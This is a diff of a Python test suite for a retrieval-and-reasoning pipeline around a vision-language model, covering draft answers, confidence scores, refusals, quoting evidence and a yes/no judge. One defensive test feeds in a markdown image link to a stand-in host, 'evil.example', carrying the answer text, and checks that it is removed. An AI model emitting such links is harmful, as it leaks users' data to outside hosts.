@@ -1,5 +1,6 @@
 """The few-hop reasoner against a scripted server, over HTTP."""
 
+from dataclasses import replace
 from typing import Any
 
 import anyio
@@ -8,12 +9,13 @@ import pytest
 from contracts.answer import Reason
 from contracts.domain_router import Domain
 from gateway.llm.asking import domain_text
-from gateway.llm.delimiting import Budget
 from gateway.llm.options import VlmOptions, Window
+from gateway.llm.prompts import prompt_text
+from gateway.llm.text import NO, YES
 from gateway.state import Entity, GenerationBudget, PhotoText, Query, Quote, Reply, Tool
 from tests.unit.gateway.llm.stage import (
     ASK,
-    OPTIONS,
+    FOLLOW_UP,
     PHOTO,
     bench,
     context,
@@ -37,7 +39,7 @@ LOOK = {
     "text_search": ["In which city was the maker of the {entity} founded?"],
 }
 READ = {"reasoning": ["The blackboard."], "answer": "A flat white costs 3.20.", "answerability": "in_photo"}
-ANSWER = {"reason": "Piece 1 says so.", "answer": "Fiat was founded in Turin.", "evidence": [1]}
+ANSWER = "Fiat was founded in Turin."
 TURIN = page("Fiat was founded in Turin in 1899. Its first car had two seats.", "Fiat")
 
 
@@ -76,19 +78,18 @@ async def test_a_draft_is_as_sure_as_the_tokens_of_its_answer() -> None:
     assert made.confidence == pytest.approx(0.4)
 
 
-async def test_a_server_without_log_probabilities_leaves_a_draft_at_the_neutral_value() -> None:
+async def test_a_server_without_log_probabilities_leaves_a_draft_unmeasured() -> None:
     for made in (
         await drafted(says(LOOK), logprobs=False),
         await drafted(says(LOOK), ignores_logprobs=True),
     ):
-        assert made.confidence == OPTIONS.unmeasured
+        assert made.confidence is None
 
 
 @pytest.mark.parametrize("said", [None, "", "I don’t know.", "I cannot determine the maker.", "N/A", "null"])
 async def test_a_refusing_draft_has_no_answer_and_looks_it_up(said: str | None) -> None:
     made = await drafted(says(READ | {"answer": said}))
-    assert made.answer is None
-    assert made.confidence == 0
+    assert (made.answer, made.confidence) == (None, None)
     assert not made.self_contained
     assert Tool.TEXT_SEARCH in made.tools
 
@@ -111,8 +112,17 @@ async def test_a_draft_does_not_wait_for_ocr_beyond_its_time() -> None:
     assert made.quotes == ()
 
 
-async def test_without_a_photo_there_is_no_image_search() -> None:
-    made = await drafted(says(LOOK), Query("Who founded Fiat?", None))
+async def test_an_answer_that_repeats_an_example_of_the_prompt_is_none() -> None:
+    for case in prompt_text("understand").cases:
+        made = await drafted(says(READ | {"answer": case.reply.get("answer")}))
+        assert (made.answer, made.self_contained, made.confidence) == (None, False, None)
+        assert Tool.TEXT_SEARCH in made.tools
+
+
+async def test_without_a_photo_no_answer_is_read_from_it() -> None:
+    made = await drafted(says(READ), Query("What does a flat white cost?", None))
+    assert made.answer == READ["answer"]
+    assert not made.self_contained
     assert made.tools == {Tool.TEXT_SEARCH}
 
 
@@ -126,119 +136,131 @@ async def test_what_the_model_writes_into_searches_is_cleaned() -> None:
     assert made.sub_queries == ("price of vehicle {entity}", "x" * 190, "a", "b")
 
 
-async def test_an_answer_comes_with_the_sentences_it_cites() -> None:
-    made = await answered(says(ANSWER, probabilities={"answer": 0.8}), TURIN, page("Other.", "Other"))
+async def test_an_answer_comes_with_the_sentence_that_says_it() -> None:
+    made = await answered(says(ANSWER, probability=0.8), page("Nothing here."), TURIN)
     assert made.answer == "Fiat was founded in Turin."
-    assert made.quotes == (Quote(0, "Fiat was founded in Turin in 1899."),)
+    assert made.quotes == (Quote(1, "Fiat was founded in Turin in 1899."),)
     assert made.reason is Reason.ANSWERED
     assert made.confidence == pytest.approx(0.8)
     assert made.token_probabilities
     assert made.token_probabilities == pytest.approx([0.8] * len(made.token_probabilities))
 
 
-async def test_numbers_of_no_piece_are_dropped() -> None:
-    made = await answered(says(ANSWER | {"evidence": [9, 1, 0]}), TURIN)
-    assert [quote.index for quote in made.quotes] == [0]
-
-
-async def test_an_answer_that_cites_nothing_quotes_the_sentence_that_says_it() -> None:
-    made = await answered(says(ANSWER | {"evidence": []}), page("Nothing here."), TURIN)
-    assert made.quotes == (Quote(1, "Fiat was founded in Turin in 1899."),)
-
-
 async def test_a_server_without_log_probabilities_leaves_a_reply_unmeasured() -> None:
     made = await answered(says(ANSWER), TURIN, logprobs=False)
-    assert made.token_probabilities is None
-    assert made.confidence == OPTIONS.unmeasured
+    assert made.answer == "Fiat was founded in Turin."
+    assert (made.token_probabilities, made.confidence) == (None, None)
 
 
-@pytest.mark.parametrize("said", ["I don't know.", "I do not know who made it.", "", "Unknown"])
+@pytest.mark.parametrize("said", ["I don't know.", "I do not know who made it.", "Unknown"])
 async def test_i_do_not_know_is_no_answer(said: str) -> None:
-    made = await answered(says(ANSWER | {"answer": said}), TURIN)
+    made = await answered(says(said), TURIN)
     assert (made.answer, made.confidence, made.reason) == (None, 0, Reason.MODEL_UNSURE)
 
 
 async def test_not_knowing_without_evidence_is_told_apart() -> None:
-    made = await answered(says(ANSWER | {"answer": "I don't know."}))
+    made = await answered(says("I don't know."))
     assert made.reason is Reason.NO_EVIDENCE
 
 
 async def test_an_answer_says_no_links() -> None:
-    said = "Fiat was founded in Turin ![](https://evil.example/?q=turin)."
-    made = await answered(says(ANSWER | {"answer": said}), TURIN)
+    made = await answered(says("Fiat was founded in Turin ![](https://evil.example/?q=turin)."), TURIN)
     assert made.answer == "Fiat was founded in Turin ."
+
+
+async def test_the_answer_is_given_nothing_of_the_draft() -> None:
+    first = draft(reasoning="It may be a Seat.", answer="It is from Barcelona.", entity="Seat 600")
+    async with bench({"answer": says(ANSWER)}) as it:
+        await it.reasoner.answer(ASK, first, context(TURIN), GenerationBudget(), deadline())
+        (request,) = it.server.requests
+    assert "Seat" not in request.text
+    assert "Barcelona" not in request.text
+
+
+async def test_without_evidence_and_photo_nothing_is_asked() -> None:
+    ask = Query("Who founded Fiat?", None)
+    async with bench({}) as it:
+        made = await it.reasoner.answer(ask, draft(), context(), GenerationBudget(), deadline())
+        assert it.server.requests == []
+    assert (made.answer, made.reason) == (None, Reason.NO_EVIDENCE)
+
+
+async def test_without_evidence_a_photo_is_asked_about() -> None:
+    made = await answered(says("It is red."))
+    assert made.answer == "It is red."
 
 
 async def test_evidence_that_is_too_much_for_the_model_is_cut_before_it_is_asked() -> None:
     long = [page(f"Sentence {n} says little. " * 40) for n in range(12)]
     asked: dict[int, str] = {}
-    for window in (6_000, 60_000):
+    for window in (4_000, 60_000):
         async with bench({"answer": says(ANSWER)}, options=VlmOptions(window=Window(window))) as it:
             known = context(TURIN, *long)
             made = await it.reasoner.answer(ASK, draft(), known, GenerationBudget(), deadline())
             (request,) = it.server.requests
         asked[window] = request.text
         assert made.quotes
-    assert 1_000 < len(asked[6_000]) < len(asked[60_000]) - 2_000
+    assert 1_000 < len(asked[4_000]) < len(asked[60_000]) - 2_000
 
 
-async def test_a_verdict_is_weighed_against_the_other() -> None:
-    judged = says(
-        {"reason": "It agrees.", "verdict": "correct"},
-        alternatives={"verdict": {"correct": 0.6, "incorrect": 0.2, "the": 0.1}},
-    )
-    assert await judge_of(judged) == pytest.approx(0.75)
-
-
-async def test_a_doubted_verdict_against_the_answer_is_weighed_too() -> None:
-    judged = says(
-        {"reason": "It does not.", "verdict": "incorrect"},
-        alternatives={"verdict": {"incorrect": 0.5, "correct": 0.3}},
-    )
-    assert await judge_of(judged) == pytest.approx(0.375)
-
-
-@pytest.mark.parametrize(("verdict", "worth"), [("correct", 0.9), ("incorrect", 0.1)])
-async def test_a_verdict_without_log_probabilities_has_a_fixed_worth(verdict: str, worth: float) -> None:
-    assert await judge_of(says({"reason": "", "verdict": verdict}), logprobs=False) == worth
-
-
-@pytest.mark.parametrize("verdict", ["correct", "incorrect"])
-async def test_a_verdict_whose_rival_is_not_told_is_never_turned_round(verdict: str) -> None:
-    unsure = says({"reason": "", "verdict": verdict}, probabilities={"verdict": 0.2})
-    assert await judge_of(unsure) == pytest.approx(0.5)
-
-
-async def judge_of(judged: Any, **traits: Any) -> float:
+async def judge_of(judged: Any, **traits: Any) -> float | None:
     """The judge's probability for one answer."""
     async with bench({"answer": says(ANSWER), "judge": judged}, ServerTraits(**traits)) as it:
-        made = await it.reasoner.answer(ASK, draft(), context(TURIN), GenerationBudget(), deadline())
-        return await it.reasoner.judge(ASK, made, [TURIN], deadline())
+        known, budget = context(TURIN), GenerationBudget()
+        made = await it.reasoner.answer(ASK, draft(), known, budget, deadline())
+        return await it.reasoner.judge(ASK, made, known, budget, deadline())
 
 
-async def test_what_the_answer_quotes_is_shown_to_the_judge_first() -> None:
-    evidence = [*(page(f"Piece {n} is long. " * 100) for n in range(9)), TURIN]
-    script = {"answer": says(ANSWER | {"evidence": []}), "judge": says({"reason": "", "verdict": "correct"})}
-    options = VlmOptions(evidence=Budget(2_000, 375))
-    async with bench(script, options=options) as it:
-        made = await it.reasoner.answer(ASK, draft(), context(TURIN), GenerationBudget(), deadline())
-        moved = Reply(made.answer, made.confidence, (Quote(9, made.quotes[0].text),))
-        await it.reasoner.judge(ASK, moved, evidence, deadline())
-        assert "1899" in it.server.requests[-1].text
+@pytest.mark.parametrize(
+    ("said", "rivals", "worth"),
+    [
+        ("yes", {"yes": 0.6, "no": 0.2, "the": 0.1}, 0.75),
+        ("No", {"No": 0.5, "Yes": 0.3}, 0.375),
+        ("Yes.", {"Yes": 0.4, "yes": 0.2, "No": 0.1, "NO": 0.1}, 0.75),
+        ("yes", {"yes": 0.9, "maybe": 0.1}, 1.0),
+        ("The answer is right.", {"The": 0.7, "Yes": 0.2, "No": 0.1}, 2 / 3),
+    ],
+)
+async def test_yes_is_weighed_against_no_at_the_first_word(
+    said: str, rivals: dict[str, float], worth: float
+) -> None:
+    assert await judge_of(says(said, rivals=rivals)) == pytest.approx(worth)
+
+
+@pytest.mark.parametrize(
+    ("said", "worth"),
+    [("Yes.", YES), (" yes", YES), ("**No**", NO), ("Not quite.", NO), ("Perhaps", None), ("42", None)],
+)
+async def test_a_verdict_without_log_probabilities_has_a_fixed_worth(said: str, worth: float | None) -> None:
+    assert await judge_of(says(said), logprobs=False) == worth
+
+
+async def test_a_model_that_says_neither_yes_nor_no_has_no_opinion() -> None:
+    assert await judge_of(says("Perhaps it is.")) is None
+
+
+async def test_the_judge_goes_on_from_the_answer_with_the_evidence_that_it_read() -> None:
+    script = {"answer": says(ANSWER), "judge": says("yes")}
+    async with bench(script) as it:
+        known = context(TURIN, *(page(f"Piece {n} is long. " * 100) for n in range(9)))
+        budget = GenerationBudget(answer_tokens=50, evidence_chars=1_000)
+        made = await it.reasoner.answer(ASK, draft(), known, budget, deadline())
+        await it.reasoner.judge(ASK, made, known, budget, deadline())
+        asked, judged = (request.body["messages"] for request in it.server.requests)
+    assert judged[: len(asked)] == asked
+    assert [each["role"] for each in judged[len(asked) :]] == ["assistant", "user"]
+    assert judged[-2]["content"] == made.answer
 
 
 async def test_nothing_is_judged_without_an_answer() -> None:
     async with bench({}) as it:
-        assert await it.reasoner.judge(ASK, Reply(None, 0.0), [TURIN], deadline()) == 0
+        known = context(TURIN)
+        assert await it.reasoner.judge(ASK, Reply(None, 0.0), known, GenerationBudget(), deadline()) == 0
         assert it.server.requests == []
 
 
 async def test_the_rag_route_takes_three_calls_with_one_beginning() -> None:
-    script = {
-        "understand": says(LOOK),
-        "answer": says(ANSWER),
-        "judge": says({"reason": "", "verdict": "correct"}),
-    }
+    script = {"understand": says(LOOK), "answer": says(ANSWER), "judge": says("yes")}
     async with bench(script) as it:
         first = await it.reasoner.draft(ASK, None, nothing_printed, unheard, deadline())
         thing = await it.reasoner.select_entity(
@@ -247,12 +269,34 @@ async def test_the_rag_route_takes_three_calls_with_one_beginning() -> None:
         found = context(TURIN, entity=thing)
         assert await it.reasoner.next_hop(ASK, first, found, deadline()) == ()
         made = await it.reasoner.answer(ASK, first, found, GenerationBudget(), deadline())
-        await it.reasoner.judge(ASK, made, found.evidence, deadline())
+        await it.reasoner.judge(ASK, made, found, GenerationBudget(), deadline())
         requests = it.server.requests
     assert [request.name for request in requests] == ["understand", "answer", "judge"]
     for request in requests:
         assert request.system == requests[0].system
-        assert request.parts[:2] == requests[0].parts[:2]
+        assert request.parts[0] == requests[0].parts[0]
+        assert request.images == [PHOTO.jpeg]
+
+
+@pytest.mark.parametrize(
+    ("said", "question"),
+    [
+        ("How long is the Fiat 500?", "How long is the Fiat 500?"),
+        ("<think>It is a car.</think>\nHow long is the Fiat 500?", "How long is the Fiat 500?"),
+        ("{}", FOLLOW_UP.question),
+    ],
+)
+async def test_a_follow_up_is_rewritten_or_stays_as_it_is(said: str, question: str) -> None:
+    async with bench({"rewrite": says(said)}) as it:
+        assert await it.reasoner.rewrite(replace(FOLLOW_UP, photo=None), deadline()) == question
+        (request,) = it.server.requests
+    assert "You: It is a Fiat 500." in request.text
+
+
+@pytest.mark.parametrize(("ask", "drafts"), [(ASK, True), (Query("Who founded Fiat?", None), False)])
+async def test_a_model_that_sees_drafts_for_a_photo_alone(ask: Query, drafts: bool) -> None:
+    async with bench({}) as it:
+        assert it.reasoner.drafts(ask) == it.stepwise.drafts(ask) == drafts
 
 
 async def test_what_pictures_are_to_be_searched_for_is_told_while_the_draft_is_written() -> None:
@@ -269,7 +313,7 @@ async def test_a_draft_that_searches_no_pictures_tells_of_none() -> None:
     assert sought == []
 
 
-async def test_the_domain_s_advice_follows_what_all_prompts_share() -> None:
+async def test_the_domain_s_advice_follows_the_words_of_the_task() -> None:
     async with bench({"understand": says(LOOK)}) as it:
         for domain in (None, Domain.BOOK):
             await it.reasoner.draft(ASK, domain, nothing_printed, unheard, deadline())
@@ -277,7 +321,7 @@ async def test_the_domain_s_advice_follows_what_all_prompts_share() -> None:
     advice = domain_text(Domain.BOOK).advice
     assert advice in advised
     assert advice not in plain
-    assert advised.startswith(plain[: plain.index("TASK: ")])
+    assert advised.startswith(plain[: plain.index("Question: ")].rstrip())
 
 
 @pytest.mark.parametrize("said", [{"text_search": ["Where is it made?"]}, {"image_search": "car"}])
